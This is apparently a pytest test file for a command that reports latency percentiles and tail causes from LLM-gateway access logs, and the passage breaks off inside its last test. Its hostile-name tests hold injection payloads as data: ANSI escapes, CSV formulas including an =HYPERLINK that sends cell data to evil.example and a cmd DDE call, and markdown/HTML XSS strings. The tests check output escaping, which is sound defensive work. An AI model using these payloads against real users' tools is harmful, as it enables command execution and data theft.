"""`llmgw report`: percentiles checked against numbers worked out by hand from the fixture log, tail causes
on crafted records, every output format parsed back, and the command's failure modes.

The fixture (fixtures/access_log.jsonl) holds 20 records and 3 damaged lines (an Envoy text-format line,
a JSON object cut short, a JSON string). Its records, by model (durations in ms, sorted):

  gpt-4o-mini (12): 120 135 150 180 210 240 260 300 450 800 1500 3200
  llama-3.1-70b (8): 0.9 420 460 500 650 900 2100 5000

Nearest rank: P(p) of n sorted values is the value at 1-based rank ceil(p/100 * n).
  n = 20: P50 -> rank 10, P95 -> rank 19, P99 -> rank ceil(19.8) = 20
  n = 12: P50 -> rank 6,  P95 -> rank ceil(11.4) = 12, P99 -> rank ceil(11.88) = 12
  n = 8:  P50 -> rank 4,  P95 -> rank ceil(7.6) = 8,   P99 -> rank ceil(7.92) = 8
  n = 7:  P50 -> rank ceil(3.5) = 4, P95 -> rank ceil(6.65) = 7, P99 -> rank 7
"""

from __future__ import annotations

import argparse
import csv
import gzip
import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest

from gateway.telemetry import report as rp
from gateway.telemetry.report import Cause, ThresholdSource

FIXTURE = Path(__file__).parent / "fixtures" / "access_log.jsonl"


def fixture_records() -> list[dict[str, Any]]:
    with FIXTURE.open("rb") as f:
        records, skipped = rp.load_records(f)
    assert skipped == 3
    return records


def stats(
    group: rp.GroupStats, metric: str
) -> tuple[int, float | None, float | None, float | None, float | None]:
    m = group.metrics[metric]
    return m.n, m.p50, m.p95, m.p99, m.max


def by_key(r: rp.Report) -> dict[str, rp.GroupStats]:
    return {g.key: g for g in r.groups}


def causes(t: rp.TailBreakdown) -> dict[str, tuple[int, int]]:
    """cause -> (primary, involved)"""
    return {c.cause.value: (c.primary, c.involved) for c in t.causes}


# ------------------------------------------------------------------------------------------ nearest rank


def test_nearest_rank_by_hand():
    one_to_twenty = [float(i) for i in range(1, 21)]
    assert rp.nearest_rank(one_to_twenty, 50) == 10.0  # ceil(0.50 * 20) = 10
    assert rp.nearest_rank(one_to_twenty, 95) == 19.0  # ceil(0.95 * 20) = 19, not 20 from 19.000000000000004
    assert rp.nearest_rank(one_to_twenty, 99) == 20.0  # ceil(19.8) = 20
    assert rp.nearest_rank(one_to_twenty, 0) == 1.0  # rank 0 clamps to the first value
    thousand = [float(i) for i in range(1, 1001)]
    assert rp.nearest_rank(thousand, 99.9) == 999.0  # ceil(0.999 * 1000) = 999
    assert rp.nearest_rank([7.5], 99) == 7.5
    assert rp.nearest_rank([], 50) is None


# ------------------------------------------------------------------------------------------ fixture, by model


def test_fixture_percentiles_by_model_by_hand():
    r = rp.build_report(fixture_records())
    assert r.records == 20
    assert [g.key for g in r.groups] == ["gpt-4o-mini", "llama-3.1-70b"]  # most requests first
    gpt, llama = by_key(r)["gpt-4o-mini"], by_key(r)["llama-3.1-70b"]

    assert (gpt.requests, gpt.errors) == (12, 1)  # g12 is a 504
    # duration, n=12: rank 6 = 240; ranks 12 = 3200
    assert stats(gpt, "duration_ms") == (12, 240.0, 3200.0, 3200.0, 3200.0)
    # ttft, stream records with a first token, n=7: 80 95 110 130 150 600 1300 -> rank 4 = 130, rank 7 = 1300
    assert stats(gpt, "ttft_ms") == (7, 130.0, 1300.0, 1300.0, 1300.0)
    # upstream, n=12: 110 128 140 170 200 230 250 280 440 700 795 3000 -> rank 6 = 230, rank 12 = 3000
    assert stats(gpt, "upstream_service_time_ms") == (12, 230.0, 3000.0, 3000.0, 3000.0)
    # overhead, n=12: 1.1 1.2 1.4 1.5 1.6 1.8 2.0 2.2 2.5 3.0 3.5 5.0 -> rank 6 = 1.8, rank 12 = 5.0
    assert stats(gpt, "gateway_overhead_ms") == (12, 1.8, 5.0, 5.0, 5.0)

    assert (llama.requests, llama.errors) == (8, 2)  # l01 503 UH, l08 504 UT
    # duration, n=8: 0.9 420 460 500 650 900 2100 5000 -> rank 4 = 500, rank 8 = 5000
    assert stats(llama, "duration_ms") == (8, 500.0, 5000.0, 5000.0, 5000.0)
    # ttft, n=4: 210 230 260 280 -> P50 rank 2 = 230; P95 rank ceil(3.8) = 4 = 280
    assert stats(llama, "ttft_ms") == (4, 230.0, 280.0, 280.0, 280.0)
    # upstream, n=7 (l01 never reached one): 415 455 490 560 590 1800 1840 -> rank 4 = 560, rank 7 = 1840
    assert stats(llama, "upstream_service_time_ms") == (7, 560.0, 1840.0, 1840.0, 1840.0)
    # overhead, n=8: 0.9 1.7 1.9 2.1 2.4 2.6 6.0 250 -> rank 4 = 2.1, rank 8 = 250
    assert stats(llama, "gateway_overhead_ms") == (8, 2.1, 250.0, 250.0, 250.0)


def test_fixture_overall_row_by_hand():
    o = rp.build_report(fixture_records()).overall
    assert (o.key, o.requests, o.errors) == ("(all)", 20, 3)
    # duration, n=20: 0.9 120 135 150 180 210 240 260 300 420 | 450 460 500 650 800 900 1500 2100 3200 5000
    #   rank 10 = 420, rank 19 = 3200, rank 20 = 5000
    assert stats(o, "duration_ms") == (20, 420.0, 3200.0, 5000.0, 5000.0)
    # ttft, n=11: 80 95 110 130 150 210 230 260 280 600 1300 -> P50 rank ceil(5.5) = 6 = 210; P95 rank
    #   ceil(10.45) = 11 = 1300
    assert stats(o, "ttft_ms") == (11, 210.0, 1300.0, 1300.0, 1300.0)
    # upstream, n=19: 110 128 140 170 200 230 250 280 415 440 455 490 560 590 700 795 1800 1840 3000
    #   P50 rank ceil(9.5) = 10 = 440; P95 rank ceil(18.05) = 19 = 3000
    assert stats(o, "upstream_service_time_ms") == (19, 440.0, 3000.0, 3000.0, 3000.0)
    # overhead, n=20: 0.9 1.1 1.2 1.4 1.5 1.6 1.7 1.8 1.9 2.0 | 2.1 2.2 2.4 2.5 2.6 3.0 3.5 5.0 6.0 250
    #   rank 10 = 2.0, rank 19 = 6.0, rank 20 = 250
    assert stats(o, "gateway_overhead_ms") == (20, 2.0, 6.0, 250.0, 250.0)


def test_fixture_by_deployment_by_hand():
    r = rp.build_report(fixture_records(), group_by="deployment")
    # 7 + 7 + 5 + 1; equal counts sort by name; l01 (503 UH) reached no deployment: "-"
    assert [(g.key, g.requests, g.errors) for g in r.groups] == [
        ("aoai-eastus", 7, 1),
        ("vllm-eu", 7, 1),
        ("openai-us", 5, 0),
        ("-", 1, 1),
    ]
    d = by_key(r)
    # aoai-eastus, n=7: 120 150 180 240 300 800 3200 -> rank 4 = 240, rank 7 = 3200
    assert stats(d["aoai-eastus"], "duration_ms") == (7, 240.0, 3200.0, 3200.0, 3200.0)
    # vllm-eu, n=7: 420 460 500 650 900 2100 5000 -> rank 4 = 650, rank 7 = 5000
    assert stats(d["vllm-eu"], "duration_ms") == (7, 650.0, 5000.0, 5000.0, 5000.0)
    # openai-us, n=5: 135 210 260 450 1500 -> P50 rank ceil(2.5) = 3 = 260; P95 rank ceil(4.75) = 5 = 1500
    assert stats(d["openai-us"], "duration_ms") == (5, 260.0, 1500.0, 1500.0, 1500.0)
    # openai-us ttft, n=2 (g05, g11): 110 1300 -> P50 rank 1 = 110; P95 rank 2 = 1300
    assert stats(d["openai-us"], "ttft_ms") == (2, 110.0, 1300.0, 1300.0, 1300.0)
    assert stats(d["-"], "upstream_service_time_ms") == (0, None, None, None, None)
    assert r.overall.requests == 20  # the overall row does not depend on the grouping


def test_other_groupings_read_their_fields():
    records = fixture_records()
    region = rp.build_report(records, group_by="region")
    assert [(g.key, g.requests) for g in region.groups] == [
        ("eastus", 7),
        ("eu-west", 7),
        ("us", 5),
        ("-", 1),
    ]
    route = rp.build_report(records, group_by="route")
    assert [(g.key, g.requests) for g in route.groups] == [("lowest_latency", 18), ("-", 1), ("hedge", 1)]
    path = rp.build_report(records, group_by="path")
    assert [(g.key, g.requests) for g in path.groups] == [("/v1/chat/completions", 20)]
    with pytest.raises(ValueError, match="choose from model, deployment"):
        rp.build_report(records, group_by="planet")


# ------------------------------------------------------------------------------------------ fixture, tail


def test_fixture_default_tail_is_at_or_above_p95_of_duration():
    t = rp.build_report(fixture_records()).tail
    # P95 of duration over all 20 = 3200 (rank 19); at or above it: g12 (3200 ms, UT) and l08 (5000 ms, 504,
    # flags UT,URX, timeout_flag total, 2 retries).
    assert (t.threshold_ms, t.source, t.requests) == (3200.0, ThresholdSource.PERCENTILE, 2)
    c = causes(t)
    assert c["timeout"] == (2, 2)
    assert c["retry"] == (0, 1)  # involved, but timeout comes first
    assert sum(p for p, _ in c.values()) == 2


def test_a_small_log_has_a_tail_its_slowest_request():
    """Under 20 requests the nearest-rank P95 is the slowest one: the tail holds it, so the demo's first
    dozen requests already show what made the slowest slow."""
    records = [rec(duration_ms=100.0 + i, ttft_ms=50.0 + i) for i in range(11)]
    records.append(rec(duration_ms=900.0, ttft_ms=850.0))  # what the demo's slowest looks like
    t = rp.build_report(records).tail
    assert (t.threshold_ms, t.requests) == (900.0, 1)
    # its first token is the slowest of its kind (its group's P95 too, under 20 values) and above the median
    assert causes(t)["slow upstream ttft"] == (1, 1) and causes(t)["unexplained"] == (0, 0)
    assert "Tail: 1 request with duration >= 900.0 ms (P95 of duration, all requests)" in rp.render(
        rp.build_report(records)
    )


def test_fixture_threshold_option():
    t = rp.build_report(fixture_records(), threshold_ms=600).tail
    # > 600 ms: l05 650 (pool wait 80 > 65), g10 800 (new connection, 250 ms connect), l06 900 (hedged),
    # g11 1500 (1 retry), l07 2100 (overhead 250 > 210), g12 3200 (UT, ttft), l08 5000 (UT + 2 retries).
    # Slow ttft: at or above the P95 first token of its model and stream mode, and above their median: gpt
    # stream 1300 (n=7, rank 7), llama stream 280 (n=4, rank 4), llama non-stream 1840 (n=2: 490 1840,
    # rank 2; median 490): l06 (280, hedged), g11 (1300, retried), l07 (1840, overhead), never primary.
    assert (t.threshold_ms, t.source, t.requests) == (600.0, ThresholdSource.OPTION, 7)
    assert causes(t) == {
        "timeout": (2, 2),
        "retry": (1, 2),
        "hedge": (1, 1),
        "cold connection": (1, 1),
        "queueing": (1, 1),
        "gateway overhead": (1, 1),
        "slow upstream ttft": (0, 3),
        "unexplained": (0, 0),
    }
    assert t.share(2) == pytest.approx(2 / 7)
    # The threshold is inclusive: at 650 the 650 ms request (the queueing one) is in the tail, at 650.5 not.
    t650 = rp.build_report(fixture_records(), threshold_ms=650).tail
    assert t650.requests == 7 and causes(t650)["queueing"] == (1, 1)
    t_above = rp.build_report(fixture_records(), threshold_ms=650.5).tail
    assert t_above.requests == 6 and causes(t_above)["queueing"] == (0, 0)


# ------------------------------------------------------------------------------------------ crafted tails


def rec(**kw: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "model": "m",
        "stream": True,
        "response_code": 200,
        "response_flags": "-",
        "duration_ms": 100.0,
        "ttft_ms": 50.0,
        "upstream_service_time_ms": 90.0,
        "gateway_overhead_ms": 1.0,
        "upstream_cluster": "d1",
        "upstream_reused_connection": True,
        "upstream_connect_ms": 0.0,
        "pool_wait_ms": 0.0,
        "retry_count": 0,
        "hedge_count": 0,
        "timeout_flag": None,
    }
    base.update(kw)
    return base


def test_tail_causes_on_crafted_records():
    fast = [rec() for _ in range(20)] + [rec(stream=False, ttft_ms=None) for _ in range(20)]
    slow = 1000.0  # every crafted request below is in the tail (threshold 500); 10% of it is 100 ms
    tail = [
        rec(duration_ms=slow, timeout_flag="idle"),  # timeout
        rec(duration_ms=slow, response_flags="DT"),  # timeout
        rec(duration_ms=slow, response_flags="UF,URX", retry_count=1),  # retry, not timeout
        rec(duration_ms=slow, retry_count=1, hedge_count=1),  # retry + hedge
        rec(duration_ms=slow, upstream_reused_connection=False, upstream_connect_ms=40.0),  # cold connection
        rec(duration_ms=slow, upstream_reused_connection=False, upstream_connect_ms=0.0),  # unexplained
        rec(
            duration_ms=slow, upstream_reused_connection=None, upstream_connect_ms=30.0
        ),  # unknown: unexplained
        rec(duration_ms=slow, pool_wait_ms=150.0),  # queueing
        rec(duration_ms=slow, gateway_overhead_ms=101.0),  # gateway overhead
        rec(duration_ms=slow, ttft_ms=900.0),  # slow ttft (stream)
        rec(
            duration_ms=slow, stream=False, ttft_ms=None, upstream_service_time_ms=950.0
        ),  # slow ttft (upstream)
        rec(duration_ms=slow, ttft_ms=None),  # unexplained
        rec(
            duration_ms=slow,
            response_flags="UT",
            upstream_reused_connection=False,  # timeout + cold
            upstream_connect_ms=30.0,
            pool_wait_ms=200.0,
        ),  #   + queueing
        rec(duration_ms=slow, pool_wait_ms=100.0, gateway_overhead_ms=100.0),  # exactly 10%: none
    ]
    # Stream first tokens of model m: 30 x 50 ms and one 900 -> P95 rank ceil(29.45) = 30 = 50, so only the
    # 900 is slow. Non-stream upstream times: 20 x 90 and one 950 -> P95 rank ceil(19.95) = 20 = 90.
    t = rp.build_report(fast + tail, threshold_ms=500).tail
    assert t.requests == 14
    assert causes(t) == {
        "timeout": (3, 3),
        "retry": (2, 2),
        "hedge": (0, 1),
        "cold connection": (1, 2),
        "queueing": (1, 2),
        "gateway overhead": (1, 1),
        "slow upstream ttft": (2, 2),
        "unexplained": (4, 4),
    }
    assert [c.cause for c in t.causes] == list(Cause)  # the table lists every cause, in priority order


def test_slow_upstream_ttft_is_relative_to_the_same_model():
    # Model "big" is slow for everyone (ttft 1000): its tail request is as slow as its peers, so unexplained.
    # Model "small" answers in 50 ms, so 400 ms is slow for it, though far below big's normal.
    records = [rec(model="big", ttft_ms=1000.0, duration_ms=1200.0) for _ in range(20)]
    records += [rec(model="small") for _ in range(20)]
    records.append(rec(model="small", ttft_ms=400.0, duration_ms=1300.0))
    t = rp.build_report(records, threshold_ms=1100).tail
    assert t.requests == 21
    assert causes(t)["slow upstream ttft"] == (1, 1)
    assert causes(t)["unexplained"] == (20, 20)


def test_non_numbers_and_missing_fields_are_unknown():
    records = [rec(duration_ms=True), rec(duration_ms="12"), {"model": "m"}, rec(duration_ms=7)]
    r = rp.build_report(records)
    assert r.records == 4
    assert stats(r.overall, "duration_ms") == (1, 7.0, 7.0, 7.0, 7.0)  # only the int 7 is a duration
    assert r.tail.requests == 1  # the single duration is its own P95 (7): the tail is that request


def test_no_records_gives_an_empty_report():
    r = rp.build_report([])
    assert (r.records, r.groups, r.tail.threshold_ms, r.tail.requests) == (0, (), None, 0)
    assert stats(r.overall, "duration_ms") == (0, None, None, None, None)
    assert "no tail" in rp.render(r)


# ------------------------------------------------------------------------------------------ reading


def test_garbage_lines_are_skipped_and_counted():
    lines = [
        '{"model": "a", "duration_ms": 10.0}\n',
        '[2024-11-05T03:11:02.000Z] "POST /v1/chat/completions HTTP/1.1" 200 - 412 1890 230 225\n',
        "[1, 2]\n",
        "42\n",
        "null\n",
        '{"model": "a", "duration_ms": \n',
        "\n",  # blank lines are not damage: not counted
        "   \n",
        b'{"model": "b", "duration_ms": 20.0}\n',  # bytes lines (a file opened in binary) work too
    ]
    records, skipped = rp.load_records(lines)
    assert [r["model"] for r in records] == ["a", "b"]
    assert skipped == 5


def test_the_gateways_own_log_lines_are_not_requests(capsys, monkeypatch):
    """`kubectl logs deploy/llm-gateway | llmgw report -` (docs/operations.md): the pod's output interleaves
    the access log (stdout) with the gateway's own JSON log lines (stderr); those are skipped, not counted
    as requests of group `-`."""
    access = rec(model="demo-chat")
    lines = [
        '{"timestamp":"2026-01-01T00:00:00.000Z","level":"INFO","logger":"uvicorn.error",'
        '"message":"Started server process [7]","pid":7}\n',
        json.dumps(access) + "\n",
        '{"timestamp":"2026-01-01T00:00:01.000Z","level":"ERROR","logger":"llmgw.reachability",'
        '"message":"deployment d1 is UNREACHABLE","pid":7,"request_id":"r1"}\n',
        json.dumps(access) + "\n",
    ]
    records, skipped = rp.load_records(lines)
    assert (len(records), skipped) == (2, 2)
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO("".join(lines).encode())))
    assert rp.run(argparse.Namespace(access_log="-")) == 0
    out = capsys.readouterr().out
    assert out.startswith("llmgw report: 2 requests by model, 2 lines skipped (not access-log records).")
    assert "\n-  " not in out  # no group of records without a model


# ------------------------------------------------------------------------------------------ formats


def test_json_format_round_trips():
    r = rp.build_report(fixture_records(), threshold_ms=600, skipped_lines=3)
    data = json.loads(rp.render(r, "json"))
    assert (data["records"], data["skipped_lines"], data["group_by"]) == (20, 3, "model")
    assert data["percentile_method"] == "nearest-rank"
    assert data["groups"][0]["group"] == "gpt-4o-mini"
    assert data["groups"][0]["metrics"]["duration_ms"] == {
        "n": 12,
        "p50": 240.0,
        "p95": 3200.0,
        "p99": 3200.0,
        "max": 3200.0,
    }
    assert data["overall"]["metrics"]["gateway_overhead_ms"]["p99"] == 250.0
    assert data["tail"]["threshold_source"] == "option"
    timeout = data["tail"]["causes"][0]
    assert timeout == {
        "cause": "timeout",
        "primary": 2,
        "primary_share": pytest.approx(2 / 7),
        "involved": 2,
        "involved_share": pytest.approx(2 / 7),
    }


def test_csv_format_parses():
    r = rp.build_report(fixture_records(), group_by="deployment", threshold_ms=600)
    rows = list(csv.DictReader(io.StringIO(rp.render(r, "csv"))))
    latency = [row for row in rows if row["table"] == "latency"]
    tail = [row for row in rows if row["table"] == "tail"]
    assert len(latency) == (4 + 1) * 4  # 4 deployments and (all), one row per metric
    vllm = next(row for row in latency if row["group"] == "vllm-eu" and row["metric"] == "duration_ms")
    assert (vllm["requests"], vllm["errors"], vllm["n"]) == ("7", "1", "7")
    assert (float(vllm["p50_ms"]), float(vllm["p95_ms"])) == (650.0, 5000.0)
    none_ttft = next(row for row in latency if row["group"] == "-" and row["metric"] == "ttft_ms")
    assert (none_ttft["n"], none_ttft["p50_ms"]) == ("0", "")  # unknown is an empty cell, not 0
    assert [row["cause"] for row in tail] == [c.value for c in Cause]
    queueing = next(row for row in tail if row["cause"] == "queueing")
    assert (queueing["tail_requests"], queueing["primary"], float(queueing["threshold_ms"])) == (
        "7",
        "1",
        600.0,
    )


def test_markdown_format_has_header_rows():
    out = rp.render(rp.build_report(fixture_records()), "markdown")
    lines = out.splitlines()
    header = "| model | requests | errors | err % | metric | n | p50 (ms) | p95 (ms) | p99 (ms) | max (ms) |"
    i = lines.index(header)
    assert lines[i + 1].startswith("| --- | ---: |")
    assert (
        lines[i + 2] == "| gpt-4o-mini | 12 | 1 | 8.3% | duration | 12 | 240.0 | 3200.0 | 3200.0 | 3200.0 |"
    )
    assert "| cause | primary | primary % | involved | involved % |" in lines
    assert "| timeout | 2 | 100.0% | 2 | 100.0% |" in lines


def test_text_format_is_aligned_with_units():
    out = rp.render(rp.build_report(fixture_records(), threshold_ms=600))
    lines = out.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("model "))
    table = []
    for line in lines[start:]:
        if line.startswith("Tail:"):
            break
        table.append(line)
    rows = [line for line in table if line]
    assert "p95 ms" in rows[0] and "max ms" in rows[0]
    # Right-aligned numbers: every row of the table ends at the same column.
    assert len({len(line) for line in rows}) == 1
    assert rows[1].split() == [
        "gpt-4o-mini",
        "12",
        "1",
        "8.3%",
        "duration",
        "12",
        "240.0",
        "3200.0",
        "3200.0",
        "3200.0",
    ]
    assert "Tail: 7 requests with duration >= 600.0 ms (--threshold-ms)" in lines
    c = lines.index(next(line for line in lines if line.startswith("cause ")))
    cause_table = lines[c : c + 1 + len(Cause)]
    assert len({len(line) for line in cause_table}) == 1
    assert [line.split("  ")[0] for line in cause_table[1:]] == [cause.value for cause in Cause]
    assert cause_table[1].split()[1:] == ["2", "28.6%", "2", "28.6%"]  # timeout: 2 of 7 tail requests


# ------------------------------------------------------------------------------------------ hostile names

# What a client can put in the model name of a request the gateway answers 404 NR, or of one refused later
# (a 400 logs the model it named): an escape sequence, CR/LF with a forged table row, NUL, a pipe.
HOSTILE = "x\x1b[31mRED\x1b[0m\r\ndemo-chat   999999  0  0.0%  duration  1 |forged| \x00\x7f\x9b\u2028 a\\b"
_RAW = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029)]


def raw_controls(out: str) -> list[str]:
    """The control characters of ``out`` other than the newlines that end its lines."""
    return [c for c in out.replace("\n", "") if c in _RAW]


def test_hostile_names_render_escaped_in_every_format():
    # A 400 (bad request) keeps the client's name as its group: it must print harmlessly.
    plain = rp.build_report([rec(model="demo-chat")])
    r = rp.build_report([rec(model="demo-chat"), rec(model=HOSTILE, response_code=400, response_flags="BR")])
    assert {g.key for g in r.groups} == {"demo-chat", HOSTILE}
    # The hostile group adds its own lines (one per metric; a blank line before it in text), no forged one.
    for fmt, added in (("text", 5), ("markdown", 4), ("csv", 4)):
        out = rp.render(r, fmt)
        assert raw_controls(out) == [], fmt
        assert len(out.splitlines()) == len(rp.render(plain, fmt).splitlines()) + added, fmt
    assert raw_controls(rp.render(r, "json")) == []

    # Python-literal escapes; the backslash too, so a literal "\\x1b" cannot pass for an escaped ESC.
    shown = (
        "x\\x1b[31mRED\\x1b[0m\\r\\ndemo-chat   999999  0  0.0%  duration  1 |forged| "
        "\\x00\\x7f\\x9b\\u2028 a\\\\b"
    )
    text = rp.render(r).splitlines()
    assert sum(line.startswith("demo-chat ") for line in text) == 1  # the forged row stays inside the name
    assert sum(line.startswith(shown + "  ") for line in text) == 1
    md = rp.render(r, "markdown").splitlines()
    md_shown = shown.replace("\\", "\\\\").replace("|", "\\|").replace("[", "\\[")  # markdown's escapes too
    assert "| " + md_shown + " | 1 | 1 | 100.0% | duration | 1 | 100.0 | 100.0 | 100.0 | 100.0 |" in md
    assert set(_markdown_cells(rp.render(r, "markdown"))) == {"demo-chat", shown, "(all)"}  # renders as text
    latency = md[
        md.index(
            "| model | requests | errors | err % | metric | n | p50 (ms) | p95 (ms) | p99 (ms) | max (ms) |"
        ) :
    ]
    latency = latency[: latency.index("")]
    assert {line.replace("\\|", "").count("|") for line in latency} == {11}  # 10 columns: none added
    rows = list(csv.DictReader(io.StringIO(rp.render(r, "csv"))))
    assert {row["group"] for row in rows if row["table"] == "latency"} == {"demo-chat", shown, "(all)"}
    data = json.loads(rp.render(r, "json"))
    assert {g["group"] for g in data["groups"]} == {"demo-chat", HOSTILE}  # json: the name itself, encoded


# Names a client can choose that a spreadsheet opening the csv would run as formulas (OWASP's CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "\tx=1",
    "\r=1",
]


def test_csv_names_never_start_a_formula():
    names = [*FORMULAS, "-", "-1", "-2.5", "+3", "gpt-4o-mini", "1-1", "  =1+1", " @SUM(1)", " -1", " a"]
    r = rp.build_report([rec(model=n) for n in names])
    rows = [row for row in csv.DictReader(io.StringIO(rp.render(r, "csv"))) if row["table"] == "latency"]
    groups = {row["group"] for row in rows} - {"(all)"}
    # A formula is kept as text by a leading single quote (tab and CR were already shown as \t and \r).
    assert groups == {
        "'" + FORMULAS[0],
        "'" + FORMULAS[1],
        "'-1+1",
        "'@SUM(1)",
        "\\tx=1",
        "\\r=1",
        "-",  # the report's own "none", and what a spreadsheet reads as text anyway
        "-1",  # plain numbers stay numbers
        "-2.5",
        "+3",
        "gpt-4o-mini",
        "1-1",
        "'  =1+1",  # leading spaces first: still a formula to some spreadsheets
        "' @SUM(1)",
        " -1",
        " a",
    }
    # The numbers of every row are numbers a spreadsheet reads as such: no quote was added to them.
    for row in rows:
        assert row["requests"].isdigit() and row["errors"].isdigit() and row["n"].isdigit(), row
        assert all(row[c] == "" or float(row[c]) >= 0 for c in ("p50_ms", "p95_ms", "p99_ms", "max_ms")), row


def _markdown_cells(out: str) -> dict[str, list[Any]]:
    """The first cell of each row of the markdown's first table, parsed as CommonMark with GFM tables and
    strikethrough (raw HTML on, as in most renderers) and bare links made links (linkify, as GFM's autolinks):
    its text, keyed to the inline tokens it is made of."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])
    tokens = md.parse(out)
    cells: dict[str, list[Any]] = {}
    first = True
    for i, t in enumerate(tokens):
        if t.type == "tr_open":
            first = True
        elif t.type == "td_open" and first:
            first = False
            inline = tokens[i + 1]
            if inline.content:
                cells["".join(c.content for c in inline.children or [])] = inline.children or []
        elif t.type == "table_close":
            break
    return cells


def test_markdown_names_render_as_their_text():
    names = [
        "`code`",
        "[click](http://evil.example)",
        "![pixel](http://evil.example/p.png)",
        '<img src="x" onerror="alert(1)">',
        "<http://evil.example>",
        "**bold** _em_ ~~gone~~",
        "&#124; &lt;b&gt;",
        "a\\x1bb",  # a literal backslash: must not render as the ESC below does
        "a\x1bb",
        "gpt-4o-mini",
        "https://evil.example/x",  # bare links, e-mail addresses and domains, which linkify would link
        "www.evil.example",
        "a@evil.com",
        "evil.com",
        "mailto:a@b.com",
    ]
    r = rp.build_report([rec(model=n) for n in names])
    cells = _markdown_cells(rp.render(r, "markdown"))
    # Every name renders as plain text (no link, image, code span, emphasis, HTML or entity), reading as the
    # text format prints it; the literal backslash and the escaped ESC stay two different names.
    assert set(cells) == {*names[:7], "a\\\\x1bb", "a\\x1bb", *names[9:], "(all)"}
    for text, children in cells.items():
        assert [c.type for c in children] == ["text"] * len(children), text
    assert len(r.groups) == len(names)


def test_plain_names_are_unchanged():
    names = ["gpt-4o-mini", "llama-3.1-70b", "mod\u00e8le/été", "a b", 'say "hi"']
    r = rp.build_report([rec(model=n) for n in names])
    for fmt in ("text", "markdown", "csv"):
        out = rp.render(r, fmt)
        assert all(n in out for n in names[:-1]), fmt
    assert all(f"| {n} | 1 |" in rp.render(r, "markdown") for n in names)


def test_unknown_models_are_one_group():
    # 1,000 distinct names the gateway does not serve, each answered 404 NR: one group, still counted.
    unknown = [
        rec(model=f"{HOSTILE}-{i}", response_code=404, response_flags="NR", upstream_cluster=None)
        for i in range(1000)
    ]
    r = rp.build_report([rec(model="demo-chat") for _ in range(3)] + unknown)
    assert [(g.key, g.requests, g.errors) for g in r.groups] == [
        ("(unknown model)", 1000, 1000),
        ("demo-chat", 3, 0),
    ]
    assert (r.overall.requests, r.overall.errors) == (1003, 1000)
    assert "(unknown model)" in rp.render(r) and "RED" not in rp.render(r)
    # An unknown path (404 NR, no model) is one group by path, and "-" by model like any record without one.
    paths = [rec(model=None, path=f"/x{i}", response_code=404, response_flags="NR") for i in range(100)]
    assert [(g.key, g.requests) for g in rp.build_report(paths, group_by="path").groups] == [
        ("(unknown path)", 100)
    ]
    assert [(g.key, g.requests) for g in rp.build_report(paths).groups] == [("-", 100)]
    # Not NR 404: the model is the group, as before.
    other = [rec(model="m", response_code=404, response_flags="UNR"), rec(model="m", response_code=502)]
    assert [g.key for g in rp.build_report(other).groups] == ["m"]


def test_beyond_the_top_groups_the_rest_is_one_row():
    """Refused before routing (no key, say), a request keeps the model name its client sent: a client can
    make a group per request. The report shows the groups with the most requests, the rest as one row."""
    refused = [rec(model=f"{HOSTILE}-{i}", response_code=401, response_flags="UAEX") for i in range(1000)]
    served = [rec(model="demo-chat", duration_ms=100.0 + i) for i in range(60)]
    r = rp.build_report(served + refused)
    assert len(r.groups) == rp.TOP_GROUPS + 1 and r.groups[0].key == "demo-chat"
    rest = r.groups[-1]
    assert (rest.key, rest.requests, rest.errors) == ("(951 more)", 951, 951)
    assert sum(g.requests for g in r.groups) == r.overall.requests == 1060  # nothing lost
    assert rest.metrics["duration_ms"].n == 951  # its percentiles are over all its requests
    assert len(rp.build_report(served + refused, top=None).groups) == 1001
    assert [g.key for g in rp.build_report(served + refused, top=1).groups] == ["demo-chat", "(1,000 more)"]
    with pytest.raises(ValueError, match="at least 1"):
        rp.build_report(served, top=0)


def test_run_top_option(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    log = tmp_path / "access.log"
    log.write_text("".join(json.dumps(rec(model=f"m{i}")) + "\n" for i in range(5)))
    assert rp.run(parse(str(log), "--top", "2", "--format", "json")) == 0
    assert [g["group"] for g in json.loads(capsys.readouterr().out)["groups"]] == ["m0", "m1", "(3 more)"]
    assert rp.run(parse(str(log), "--top", "0", "--format", "json")) == 0
    assert len(json.loads(capsys.readouterr().out)["groups"]) == 5
    with pytest.raises(SystemExit):
        parse(str(log), "--top", "-1")


def test_render_rejects_unknown_format():
    with pytest.raises(ValueError, match="choose from text, markdown, csv, json"):
        rp.render(rp.build_report([]), "xml")


# ------------------------------------------------------------------------------------------ command line


def parse(*argv: str) -> argparse.Namespace:
    p = argparse.ArgumentParser(prog="llmgw report")
    rp.add_arguments(p)
    return p.parse_args(list(argv))


def test_run_on_the_fixture(capsys: pytest.CaptureFixture[str]):
    assert rp.run(parse(str(FIXTURE), "--by", "deployment", "--format", "json", "--threshold-ms", "600")) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["records"], data["skipped_lines"], data["group_by"]) == (20, 3, "deployment")
    assert data["tail"]["requests"] == 7


def test_run_reads_stdin_and_gzip(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    data = FIXTURE.read_bytes()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    assert rp.run(parse("-", "--format", "json")) == 0
    assert json.loads(capsys.readouterr().out)["records"] == 20
    gz = tmp_path / "access.log.gz"
    gz.write_bytes(gzip.compress(data))
    assert rp.run(parse(str(gz), "--format", "json")) == 0
    assert json.loads(capsys.readouterr().out)["overall"]["metrics"]["duration_ms"]["p50"] == 420.0


def test_run_missing_file_returns_2_with_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    missing = tmp_path / "nope.jsonl"
    assert rp.run(parse(str(missing))) == 2
    err = capsys.readouterr().err
    assert "no such file" in err and "nope.jsonl" in err
    assert rp.run(parse(str(tmp_path))) == 2
    assert "is a directory" in capsys.readouterr().err


def test_run_bad_options_return_2(capsys: pytest.CaptureFixture[str]):
    bad_by = argparse.Namespace(access_log=str(FIXTURE), by="planet", format="text", threshold_ms=None)
